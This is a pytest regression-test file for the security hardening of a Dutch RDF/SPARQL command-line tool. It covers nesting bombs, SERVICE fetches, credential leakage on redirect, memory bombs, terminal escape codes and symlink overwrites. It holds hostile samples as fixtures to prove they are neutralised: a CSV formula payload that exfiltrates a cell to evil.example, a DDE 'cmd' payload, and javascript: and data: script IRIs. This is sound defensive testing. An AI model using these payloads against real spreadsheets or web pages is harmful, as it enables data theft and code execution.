"""The second round of hardening (issue 17): what an attacker found that the first round missed.

Each defect of the issue has its regression tests here (the served endpoint's in
``tests/test_serve.py``): deep nesting and SERVICE in query files, control characters in
messages, credentials on redirect, memory bombs, CSV formula injection, ``javascript:`` links,
``report --out`` into an existing folder, ``load`` leftovers, and the small things. What the user
sees for each case is in docs/hardening.md ("Second round").
"""

from __future__ import annotations

import os
import socket
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from ggsr_kg import sparqlguard
from ggsr_kg.cli import main
from ggsr_kg.errors import printable

FIXTURE = Path(__file__).parent / "fixtures" / "netwerk-minimaal.ttl"


def cli(capsys, *argv: str) -> tuple[int, str, str]:
    try:
        code = main(list(argv))
    except SystemExit as exc:
        code = exc.code
    out, err = capsys.readouterr()
    return code, out, err


def one_line(err: str) -> str:
    assert "Traceback" not in err
    lines = [line for line in err.splitlines() if line.strip()]
    assert len(lines) == 1, err
    return lines[0]


class Recorder(ThreadingHTTPServer):
    """An HTTP server on 127.0.0.1 that records every request and answers ``status``."""

    daemon_threads = True

    def __init__(self, status: int = 200, body: bytes = b"", headers: dict | None = None):
        super().__init__(("127.0.0.1", 0), _RecordingHandler)
        self.status, self.body, self.extra = status, body, headers or {}
        self.seen: list[tuple[str, str, dict]] = []

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"

    def __enter__(self):
        threading.Thread(target=self.serve_forever, args=(0.02,), daemon=True).start()
        return self

    def __exit__(self, *exc):
        self.shutdown()
        self.server_close()


class _RecordingHandler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_GET(self):  # noqa: N802
        srv: Recorder = self.server
        length = int(self.headers.get("Content-Length") or 0)
        if length:
            self.rfile.read(length)
        srv.seen.append((self.command, self.path, dict(self.headers.items())))
        body = srv.body
        self.send_response(srv.status)
        for k, v in srv.extra.items():
            self.send_header(k, v.replace("{self}", srv.url))
        self.send_header("Content-Type", self.server.extra.get("Content-Type", "text/plain"))
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Connection", "close")
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_PUT = do_DELETE = do_GET  # noqa: N815

    def log_message(self, *args):
        pass


# =================================================================================================
# 1. Deep nesting: refused before the engine, one line, exit 2 (was: segmentation fault)


def _rq(tmp_path: Path, text: str, name: str = "vraag.rq") -> Path:
    q = tmp_path / name
    q.write_text(text, encoding="utf-8")
    return q


DEEP = {
    "braces-5000": "SELECT * WHERE " + "{ " * 5000 + "?s ?p ?o " + "} " * 5000,
    "parentheses-5000": "SELECT * WHERE { ?s ?p ?o FILTER("
    + "(" * 5000
    + "?o"
    + ")" * 5000
    + ") }",
    "optional-2000": "SELECT * WHERE { ?s ?p ?o " + "OPTIONAL { ?s ?p ?o " * 2000 + "}" * 2001,
    "or-chain-10000": "SELECT * WHERE { ?s ?p ?o FILTER(" + " || ".join(["?o = 1"] * 10000) + ") }",
    "union-chain-10000": "SELECT * WHERE { " + " UNION ".join(["{ ?s ?p ?o }"] * 10000) + " }",
    "triples-10000": "SELECT * WHERE { "
    + " ".join(f"?s <urn:p> ?o{i} ." for i in range(10000))
    + " }",
    "path-10000": "SELECT * WHERE { ?s " + "/".join(["<urn:p>"] * 10000) + " ?o }",
    "escaped-braces": "SELECT * WHERE " + "\\u007B " * 200 + "?s ?p ?o" + " \\u007D" * 200,
}


@pytest.mark.parametrize("case", sorted(DEEP))
def test_a_deeply_nested_query_file_is_one_line_exit_2(capsys, tmp_path, case):
    q = _rq(tmp_path, DEEP[case])
    code, out, err = cli(capsys, "query", str(q), "--data", str(FIXTURE))
    assert code == 2 and out == ""
    line = one_line(err)
    assert str(q) in line and ("nested too deeply" in line or "chained too long" in line), line
    assert len(line) < 400


def test_nesting_within_the_limit_runs(capsys, tmp_path):
    depth = sparqlguard.MAX_NESTING - 2  # the WHERE group and FILTER's own parenthesis
    text = (
        "SELECT ?g WHERE { ?g a <https://w3id.org/ggsr/def#Gemeente> FILTER("
        + "(" * depth
        + "true"
        + ")" * depth
        + ") }"
    )
    code, out, err = cli(capsys, "query", str(_rq(tmp_path, text)), "--data", str(FIXTURE))
    assert code == 0, err
    assert "gemeente-x" in out


def test_every_named_query_passes_the_guard():
    from ggsr_kg.queries import named_queries

    for q in named_queries().values():
        assert sparqlguard.check(q.text) is None, q.name
        found = sparqlguard.scan(q.text)
        assert found.nesting < sparqlguard.MAX_NESTING // 4 and found.chain < 100, q.name


# =================================================================================================
# 2. SERVICE (and LOAD) in a query file: refused unless --service-toestaan


@pytest.fixture
def target():
    """The address a SERVICE would make the engine fetch; it must see no request."""
    with Recorder(500, b"niet voor jou") as srv:
        yield srv


SERVICE_FORMS = {
    "plain": "SELECT * WHERE {{ SERVICE <{url}/x> {{ ?s ?p ?o }} }}",
    "silent": "SELECT * WHERE {{ SERVICE SILENT <{url}/x> {{ ?s ?p ?o }} }}",
    "lower-case": "select * where {{ service <{url}/x> {{ ?s ?p ?o }} }}",
    "escaped-keyword": "SELECT * WHERE {{ \\u0053ERVICE <{url}/x> {{ ?s ?p ?o }} }}",
    "in-a-subquery": "SELECT * WHERE {{ {{ SELECT * WHERE {{ SERVICE <{url}/x> {{ ?s ?p ?o }} }} }} }}",
    "prefixed-iri": "PREFIX e: <{url}/> SELECT * WHERE {{ SERVICE e:x {{ ?s ?p ?o }} }}",
    "after-a-comment": "# SELECT\nSELECT * WHERE {{ ?a ?b ?c # }}\n SERVICE <{url}/x> {{ ?s ?p ?o }} }}",
}


@pytest.mark.parametrize("form", sorted(SERVICE_FORMS))
def test_service_in_a_query_file_is_refused_and_nothing_is_fetched(capsys, tmp_path, target, form):
    q = _rq(tmp_path, SERVICE_FORMS[form].format(url=target.url))
    code, out, err = cli(capsys, "query", str(q), "--data", str(FIXTURE))
    assert code == 2 and out == ""
    line = one_line(err)
    assert "SERVICE is refused" in line and "--allow-service" in line, line
    assert target.seen == []


def test_service_toestaan_lets_the_query_fetch(capsys, tmp_path, target):
    q = _rq(tmp_path, SERVICE_FORMS["silent"].format(url=target.url))
    code, out, err = cli(capsys, "query", str(q), "--data", str(FIXTURE), "--service-toestaan")
    assert code == 0, err
    assert [m for m, _, _ in target.seen] == ["POST"]


@pytest.mark.parametrize(
    "text",
    [
        'SELECT ?x WHERE { BIND("SERVICE <http://127.0.0.1:1/>" AS ?x) }',
        "# SERVICE <http://127.0.0.1:1/>\nSELECT ?x WHERE { BIND(1 AS ?x) }",
        "PREFIX s: <urn:s:> SELECT ?x WHERE { BIND(s:SERVICE AS ?x) }",
        "SELECT ?SERVICE WHERE { BIND(1 AS ?SERVICE) }",
    ],
)
def test_the_word_service_in_a_string_comment_or_name_is_no_service(capsys, tmp_path, text):
    code, out, err = cli(capsys, "query", str(_rq(tmp_path, text)), "--data", str(FIXTURE))
    assert code == 0, err


@pytest.mark.parametrize(
    "text", ["LOAD <http://127.0.0.1:1/x>", "LOAD SILENT <http://127.0.0.1:1/x> INTO GRAPH <urn:g>"]
)
def test_load_in_a_query_file_is_refused_as_an_update(capsys, tmp_path, text):
    code, out, err = cli(capsys, "query", str(_rq(tmp_path, text)), "--data", str(FIXTURE))
    assert code == 2 and "SPARQL Update" in one_line(err)


def test_the_guard_refuses_what_the_parser_cannot_read_only_if_it_names_service():
    assert sparqlguard.check("SELECT * WHERE { ?s ?p ?o }}") is None  # the engine says where
    refusal = sparqlguard.check("SELECT * WHERE { ?s ?p SERVICE }")
    assert refusal is not None and refusal.kind == "service"


# =================================================================================================
# 10. Control characters in messages are escaped


def test_printable_escapes_terminal_codes_and_line_breaks():
    assert printable("a\nb\x1b[31mc\x9bd\u2028e\x00") == "a\\nb\\x1b[31mc\\x9bd\\u2028e\\x00"
    assert printable("Sittard-Geleen — ✓ é") == "Sittard-Geleen — ✓ é"


def test_a_file_name_with_a_newline_stays_one_line(capsys, tmp_path):
    bad = tmp_path / "a\nb\x1b[2J.ttl"
    bad.write_text("dit is geen turtle", encoding="utf-8")
    code, _, err = cli(capsys, "validate", "--data", str(bad))
    assert code == 2
    line = one_line(err)
    assert "\x1b" not in err and "a\\nb\\x1b[2J.ttl" in line


def test_an_endpoint_error_body_with_escape_codes_is_shown_not_obeyed(capsys):
    with Recorder(500, b"\x1b[2J\x1b[31mboem\nregel twee\x07") as srv:
        code, out, err = cli(capsys, "query", "rollen", "--endpoint", srv.url)
    assert code == 3
    line = one_line(err)
    assert "\x1b" not in err and "\x07" not in err
    assert "HTTP 500" in line and "boem" in line


# =================================================================================================
# 12. Small things


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
def test_a_fifo_or_device_named_rq_is_not_a_regular_file(capsys, tmp_path):
    fifo = tmp_path / "pijp.rq"
    os.mkfifo(fifo)
    zero = tmp_path / "nul.rq"
    zero.symlink_to("/dev/zero")
    for path in (fifo, zero):
        code, out, err = cli(capsys, "query", str(path))
        assert code == 2
        line = one_line(err)
        assert "not a regular file" in line and "does not exist" not in line, line


def test_socket_is_not_a_regular_file_either(capsys, tmp_path):
    path = tmp_path / "s.ttl"
    with socket.socket(socket.AF_UNIX) as s:
        s.bind(str(path))
        code, _, err = cli(capsys, "validate", "--data", str(path))
    assert code == 2 and "not a regular file" in one_line(err)


# =================================================================================================
# 5. Credentials never follow a redirect to another origin; only http(s) redirects are followed


@pytest.fixture
def credentials_set(monkeypatch):
    monkeypatch.setenv("GGSR_SPARQL_USER", "inspecteur")
    monkeypatch.setenv("GGSR_SPARQL_PASSWORD", "geheim")
    from ggsr_kg import remote

    monkeypatch.setattr(remote, "_sleep", lambda s: None)


@pytest.mark.parametrize(
    "argv",
    [
        ["query", "rollen"],
        ["link", "--out", "{tmp}/gelinkt.ttl", "--data", str(FIXTURE)],
        ["load", "--data", str(FIXTURE)],
    ],
    ids=lambda a: a[0],
)
def test_credentials_stay_with_their_origin_on_a_redirect(capsys, tmp_path, credentials_set, argv):
    with (
        Recorder(500, b"nee") as elsewhere,
        Recorder(302, b"", {"Location": elsewhere.url + "/query"}) as endpoint,
    ):
        argv = [a.format(tmp=tmp_path) for a in argv]
        cli(capsys, *argv, "--endpoint", endpoint.url)
        asked = endpoint.seen
    assert asked and all("Authorization" in h for _, _, h in asked)  # the endpoint itself: yes
    assert elsewhere.seen, "the redirect was not followed at all"
    assert not any("authorization" in {k.lower() for k in h} for _, _, h in elsewhere.seen)


def test_a_redirect_to_ftp_is_refused_in_one_line(capsys, credentials_set):
    with Recorder(302, b"", {"Location": "ftp://127.0.0.1:1/x"}) as endpoint:
        code, out, err = cli(capsys, "query", "rollen", "--endpoint", endpoint.url)
    assert code == 3 and out == ""
    line = one_line(err)
    assert "ftp://" in line and "redirect refused" in line, line


def test_a_redirect_within_the_origin_keeps_working(capsys, credentials_set, tmp_path):
    """The same host and port: the credentials go along (the server asked for them)."""
    with Recorder(302, b"") as srv:
        srv.extra = {"Location": "{self}/elders"}
        cli(capsys, "query", "rollen", "--endpoint", srv.url)
        hops = srv.seen
    assert len(hops) >= 2 and all("Authorization" in h for _, _, h in hops)


# =================================================================================================
# 6. Memory bombs: limits checked while reading, before memory grows; only regular files

WORKBOOK = Path(__file__).parent / "fixtures" / "workbook" / "voorbeeld.xlsx"
CSV_FOLDER = Path(__file__).parent.parent / "examples" / "gemeente-voorbeeld-2016" / "csv"


def test_a_literal_over_16_mib_is_one_line(capsys, tmp_path):
    big = tmp_path / "groot.ttl"
    big.write_text(
        FIXTURE.read_text(encoding="utf-8")
        + '\n<https://w3id.org/ggsr/id/x-cjg> <http://www.w3.org/2000/01/rdf-schema#comment> "'
        + "a" * (17 * 1024 * 1024)
        + '" .\n',
        encoding="utf-8",
    )
    code, _, err = cli(capsys, "validate", "--data", str(big))
    assert code == 2
    line = one_line(err)
    assert "longer than 16777216 bytes" in line and "MemoryError" not in line


def test_a_long_collection_is_refused_while_streaming(capsys, tmp_path, monkeypatch):
    """A 10 MB Turtle file can hold a collection of 5 million items (10 M triples, > 8 GB as a
    list). Quads are counted as they are parsed; here with the limits lowered a thousandfold."""
    import tracemalloc

    from ggsr_kg import graph as graph_module
    from ggsr_kg import rdfio

    monkeypatch.setattr(rdfio, "MAX_FILE_QUADS", 5_000)
    monkeypatch.setattr(graph_module, "LIST_QUADS", 1_000)
    bomb = tmp_path / "lijst.ttl"
    bomb.write_text(
        "<https://w3id.org/ggsr/id/x> <http://www.w3.org/2000/01/rdf-schema#seeAlso> ( "
        + "1 " * 5_000_000
        + ") .\n",
        encoding="utf-8",
    )
    tracemalloc.start()
    code, _, err = cli(capsys, "validate", "--data", str(bomb))
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert code == 2 and "more than 5000 triples in one file" in one_line(err)
    assert peak < 100 * 1024 * 1024, peak  # Python objects: never the 10 M quads


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
@pytest.mark.parametrize("kind", ["dev-zero", "fifo", "sparse-6-gb"])
@pytest.mark.parametrize("where", ["turtle", "csv-folder", "xlsx"])
def test_files_that_are_not_regular_or_absurdly_large_are_refused_at_once(
    capsys, tmp_path, kind, where
):
    import shutil
    import time

    if where == "csv-folder":
        folder = tmp_path / "werkboek"
        shutil.copytree(CSV_FOLDER, folder)
        path = folder / "Aanpak.csv"
        path.unlink()
        target = folder
    else:
        path = tmp_path / ("data.ttl" if where == "turtle" else "werkboek.xlsx")
        target = path
    if kind == "dev-zero":
        path.symlink_to("/dev/zero")
    elif kind == "fifo":
        os.mkfifo(path)
    else:
        with path.open("wb") as f:
            f.truncate(6 * 1024**3)  # sparse: no disk used
    start = time.monotonic()
    code, _, err = cli(capsys, "validate", "--data", str(target))
    assert time.monotonic() - start < 30
    assert code == 2
    line = one_line(err)
    assert ("not a regular file" in line) if kind != "sparse-6-gb" else ("too large" in line), line


def _with_sheet_xml(tmp_path: Path, sheet: str, edit) -> Path:
    """voorbeeld.xlsx with the XML of one sheet changed by ``edit(text) -> text``."""
    import zipfile

    from openpyxl import load_workbook

    wb = load_workbook(WORKBOOK, read_only=True)
    index = wb.sheetnames.index(sheet) + 1
    wb.close()
    out = tmp_path / "werkboek.xlsx"
    with zipfile.ZipFile(WORKBOOK) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == f"xl/worksheets/sheet{index}.xml":
                data = edit(data.decode("utf-8")).encode("utf-8")
            dst.writestr(item, data)
    return out


def test_a_forged_dimension_sizes_nothing(tmp_path):
    import re as regex
    import tracemalloc

    from ggsr_kg.workbook.importer import lees

    forged = _with_sheet_xml(
        tmp_path,
        "Organisaties",
        lambda x: regex.sub(r'<dimension ref="[^"]*"/>', '<dimension ref="A1:XFD1048576"/>', x),
    )
    tracemalloc.start()
    tabellen, problemen, _ = lees(forged)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert len(tabellen["Organisaties"].rijen) == len(lees(WORKBOOK)[0]["Organisaties"].rijen)
    assert peak < 200 * 1024 * 1024, peak


def test_a_million_rows_are_refused_while_reading(capsys, tmp_path):
    import time

    rows = "".join(
        f'<row r="{i}"><c r="A{i}" t="n"><v>1</v></c></row>' for i in range(10, 1_000_010)
    )
    bomb = _with_sheet_xml(
        tmp_path, "Verklaringen", lambda x: x.replace("</sheetData>", rows + "</sheetData>")
    )
    assert bomb.stat().st_size < 5 * 1024 * 1024
    start = time.monotonic()
    code, _, err = cli(capsys, "import", str(bomb))
    assert code == 2 and "more than 20000 rows" in one_line(err)
    assert time.monotonic() - start < 60


def test_a_formula_without_a_cached_value_says_so(capsys, tmp_path):
    from openpyxl import load_workbook

    wb = load_workbook(WORKBOOK)
    ws = wb["Aanpak"]
    ws["A2"] = '="Zwol"&"le"'  # openpyxl writes formulas without a cached value
    path = tmp_path / "formule.xlsx"
    wb.save(path)
    code, _, err = cli(capsys, "import", str(path))
    assert code == 2
    assert "Blad Aanpak, rij 2, kolom Gemeente: formule zonder berekende waarde" in err
    assert "formula not calculated: open the workbook in Excel and save it" in err
    assert "verplichte cel is leeg" not in err


# =================================================================================================
# 7. CSV formula injection: cells starting with = + - @ are neutralised (OWASP)

HOSTILE_LABEL = '=HYPERLINK("http://evil.example/?"&A1,"klik")'


def test_csv_output_never_starts_a_cell_with_a_formula_character(capsys, tmp_path):
    import csv as csvmod
    import io

    from ggsr_kg.output import render, spreadsheet_safe

    rows = [{"a": v} for v in ("=1+1", "+31 6", "-2+3", "@SUM(A1)", "\t=x", "\r=x", "gewoon", "")]
    import pyoxigraph as ox

    rows = [{"a": ox.Literal(r["a"])} for r in rows] + [
        {"a": ox.Literal("-5", datatype=ox.NamedNode("http://www.w3.org/2001/XMLSchema#integer"))}
    ]
    for fmt in ("csv", "tsv"):
        text = render(["a"], rows, fmt)
        reader = csvmod.reader(
            io.StringIO(text, newline=""), delimiter="," if fmt == "csv" else "\t"
        )
        cells = [r[0] if r else "" for r in reader][1:]
        for cell in cells[:6]:
            assert cell.startswith("'"), cell
        assert cells[6:] == ["gewoon", "", "-5"]  # ordinary text and numbers stay as they are
    assert spreadsheet_safe(-5) == -5


def test_query_csv_of_a_file_is_neutralised(capsys, tmp_path):
    import csv as csvmod
    import io

    q = tmp_path / "vraag.rq"
    literal = HOSTILE_LABEL.replace('"', '\\"')
    q.write_text(f'SELECT ?x WHERE {{ BIND("{literal}" AS ?x) }}', encoding="utf-8")
    code, out, err = cli(capsys, "query", str(q), "--format", "csv")
    assert code == 0, err
    assert list(csvmod.reader(io.StringIO(out)))[1] == ["'" + HOSTILE_LABEL]


def test_validate_csv_cells_are_neutralised():
    import csv as csvmod
    import io

    from ggsr_kg.commands import validate

    class Hostile(dict):  # every column the CSV has, whatever they are, holds a formula
        def __missing__(self, key):
            return "=1+1"

    class Score:
        def as_json(self):
            hostile_fact = {
                "feit": "x",
                "label": "+f",
                "grondslag": None,
                "bewijs": [],
                "bronnen": [],
            }
            return Hostile(
                redenen=["@x", "y"],
                wat_zou_veranderen=["-z"],
                feiten=[hostile_fact],
                niet_meegeteld=["=n"],
            )

    rows = list(csvmod.reader(io.StringIO(validate.format_csv([Score()]), newline="")))
    assert len(rows) == 2 and len(rows[1]) == len(rows[0]) > 5
    assert not any(c.startswith(("=", "+", "-", "@")) for c in rows[1]), rows[1]
    assert "'=1+1" in rows[1] and "'@x | y" in rows[1] and "'+f" in rows[1] and "'=n" in rows[1]


def test_export_to_a_csv_folder_neutralises_and_import_reads_it_back(tmp_path):
    from ggsr_kg.workbook import template
    from ggsr_kg.workbook.importer import lees

    tabellen, _, _ = lees(CSV_FOLDER)
    first = tabellen["Verklaringen"].rijen[0][1]
    veld = next(k for k, v in first.items() if isinstance(v, str) and v.startswith("de aanpak"))
    hostile = dict(first) | {veld: "=cmd|' /C calc'!A0"}
    out = tmp_path / "export"
    template._schrijf_csv(out, {"Verklaringen": [_by_heading(hostile)]})
    written = (out / "Verklaringen.csv").read_text(encoding="utf-8-sig")
    assert "'=cmd|" in written and "\n=cmd" not in written and ",=cmd" not in written
    back, _, _ = lees(out)
    values = [v for _, row in back["Verklaringen"].rijen for v in row.values()]
    assert "=cmd|' /C calc'!A0" in values


def _by_heading(row: dict) -> dict:
    from ggsr_kg.workbook.mapping import BLADEN

    blad = next(b for b in BLADEN if b.naam == "Verklaringen")
    return {k.kop: row.get(k.veld) for k in blad.alle_kolommen}


# =================================================================================================
# 8. Only http(s) IRIs become links in the report


def test_is_web_takes_http_and_https_only():
    from ggsr_kg.report.build import is_web

    assert is_web("https://www.wikidata.org/entity/Q9832") and is_web("http://example.org/a")
    for iri in ("javascript:alert(1)", "JAVASCRIPT:alert(1)", "data:text/html,x", "vbscript:x",
                "file:///etc/passwd", "https://a b", "http://a\nb", None, 3):  # fmt: skip
        assert not is_web(iri), iri


@pytest.fixture(scope="module")
def hostile_report(tmp_path_factory):
    data = tmp_path_factory.mktemp("js") / "js.ttl"
    data.write_text(
        FIXTURE.read_text(encoding="utf-8")
        + "\nid:gemeente-x ggsr:wikidata <javascript:alert(document.domain)> ;\n"
        "    ggsr:tooi <data:text/html,%3Cscript%3Ealert(1)%3C/script%3E> .\n",
        encoding="utf-8",
    )
    out = tmp_path_factory.mktemp("rapport") / "r"
    assert main(["report", "--out", str(out), "--data", str(data)]) == 0
    return out


def test_a_javascript_iri_in_the_data_is_text_not_a_link(hostile_report):
    pages = [p.read_text(encoding="utf-8") for p in hostile_report.rglob("*.html")]
    text = "\n".join(pages)
    assert "javascript:alert(document.domain)" in text  # shown …
    assert 'href="javascript:' not in text.lower() and 'href="data:' not in text.lower()  # … inert
    assert "<code>javascript:alert(document.domain)</code>" in text


# =================================================================================================
# 9. report --out into an existing folder: fresh folder swapped in, no stale pages, no symlinks


def _report(capsys, out: Path, *extra: str) -> tuple[int, str]:
    code, _, err = cli(capsys, "report", "--out", str(out), "--data", str(FIXTURE), *extra)
    return code, err


def test_a_foreign_non_empty_folder_is_refused_unless_force(capsys, tmp_path):
    out = tmp_path / "mijn-map"
    out.mkdir()
    (out / "scriptie.docx").write_bytes(b"vier jaar werk")
    code, err = _report(capsys, out)
    assert code == 2 and "--force" in one_line(err)
    assert (out / "scriptie.docx").read_bytes() == b"vier jaar werk"
    code, err = _report(capsys, out, "--force")
    assert code == 0, err
    assert (out / "index.html").is_file() and not (out / "scriptie.docx").exists()


def test_an_earlier_report_is_replaced_whole_without_stale_pages(capsys, tmp_path):
    out = tmp_path / "rapport"
    assert _report(capsys, out)[0] == 0
    stale = out / "gemeente" / "verdwenen-2010.html"
    stale.write_text("oud", encoding="utf-8")
    assert _report(capsys, out)[0] == 0
    assert not stale.exists() and (out / "index.html").is_file()
    assert [p.name for p in tmp_path.iterdir()] == ["rapport"]  # no temporary folder left


def test_a_symlink_in_an_earlier_report_is_never_written_through(capsys, tmp_path):
    out = tmp_path / "rapport"
    assert _report(capsys, out)[0] == 0
    victim = tmp_path / "bashrc"
    victim.write_text("alias ls='ls --color'\n", encoding="utf-8")
    (out / "index.html").unlink()
    (out / "index.html").symlink_to(victim)
    (out / "static").rename(tmp_path / "static-echt")
    (out / "static").symlink_to(tmp_path / "static-echt")
    assert _report(capsys, out)[0] == 0
    assert victim.read_text(encoding="utf-8") == "alias ls='ls --color'\n"
    assert not (out / "index.html").is_symlink() and not (out / "static").is_symlink()
    assert (tmp_path / "static-echt").is_dir()  # removing the old report removed the link only


def test_out_itself_a_symlink_is_refused(capsys, tmp_path):
    real = tmp_path / "echt"
    real.mkdir()
    link = tmp_path / "link"
    link.symlink_to(real)
    code, err = _report(capsys, link)
    assert code == 2 and "symbolic link" in one_line(err)
    assert list(real.iterdir()) == []


def test_a_build_that_fails_leaves_the_old_report(capsys, tmp_path, monkeypatch):
    from ggsr_kg.report import build

    out = tmp_path / "rapport"
    assert _report(capsys, out)[0] == 0
    before = sorted(p.relative_to(out) for p in out.rglob("*"))
    index = (out / "index.html").read_text(encoding="utf-8")

    def broken(self, *args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(build.ReportBuilder, "_render", broken)
    code, err = _report(capsys, out)
    assert code == 2 and "No space left on device" in one_line(err)
    assert sorted(p.relative_to(out) for p in out.rglob("*")) == before
    assert (out / "index.html").read_text(encoding="utf-8") == index
    assert [p.name for p in tmp_path.iterdir()] == ["rapport"]


# =================================================================================================
# 11. load: leftovers of a load killed before its MOVE are found, removed and reported


@pytest.mark.server
def test_the_next_load_removes_the_leftover_of_a_killed_one(capsys, oxigraph_bin, tmp_path):
    import json
    import urllib.parse
    import urllib.request

    from conftest import running_oxigraph

    from ggsr_kg.commands.load import TMP_BASE

    def graphs(base: str) -> set[str]:
        q = "SELECT DISTINCT ?g WHERE { GRAPH ?g { ?s ?p ?o } }"
        req = urllib.request.Request(
            base + "/query?query=" + urllib.parse.quote(q),
            headers={"Accept": "application/sparql-results+json"},
        )
        with urllib.request.urlopen(req, timeout=10) as r:
            return {b["g"]["value"] for b in json.loads(r.read())["results"]["bindings"]}

    def put(base: str, graph: str) -> None:
        req = urllib.request.Request(
            base + "/store?graph=" + urllib.parse.quote(graph, safe=""),
            data=b"<urn:a> <urn:b> <urn:c> .\n",
            headers={"Content-Type": "application/n-triples"},
            method="PUT",
        )
        urllib.request.urlopen(req, timeout=10).close()

    with running_oxigraph(oxigraph_bin, tmp_path / "store") as base:
        # what a load killed (kill -9) between its upload and its MOVE leaves behind
        dead = f"{TMP_BASE}20260101T000000Z-0123456789ab"
        put(base, dead)
        put(base, "https://example.org/iets-anders")  # not ours: untouched
        code, out, err = cli(capsys, "load", "--endpoint", base, "--graph", "urn:doel",
                             "--data", str(FIXTURE))  # fmt: skip
        assert code == 0, err
        assert f"temporary graph of an interrupted load <{dead}>" in err and "removed" in err
        left = graphs(base)
        assert dead not in left and not any(g.startswith(TMP_BASE) for g in left)
        assert {"urn:doel", "https://example.org/iets-anders"} <= left
